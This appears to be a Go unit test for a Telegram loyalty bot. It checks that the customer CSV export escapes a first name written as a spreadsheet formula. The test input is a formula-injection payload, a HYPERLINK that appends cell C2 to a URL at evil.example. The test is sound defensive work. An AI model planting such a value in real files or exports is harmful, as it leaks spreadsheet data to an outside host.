package flows_test

import (
	"slices"
	"testing"

	"github.com/loyaltybot/loyaltybot/bot/bottest"
)

// TestExportKeepsANameThatLooksLikeAFormulaText: a customer whose
// Telegram name is a spreadsheet formula is exported as text, not as a
// formula the owner's spreadsheet would run.
func TestExportKeepsANameThatLooksLikeAFormulaText(t *testing.T) {
	t.Parallel()
	h := bottest.New(t, withOwner)
	owner := h.Chat(ownerID, "Olga", "en")
	name := `=HYPERLINK("http://evil.example/?"&C2,"Anna")`
	join(t, h, 101, name)
	owner.Send("/export").Tap("👥 Customers")
	rows := lastCSV(t, owner, "customers-2026-11-22.csv")
	col := slices.Index(rows[0], "first_name")
	if col < 0 || len(rows) != 2 || rows[1][col] != "'"+name {
		t.Fatalf("customers export: %q", rows)
	}
}
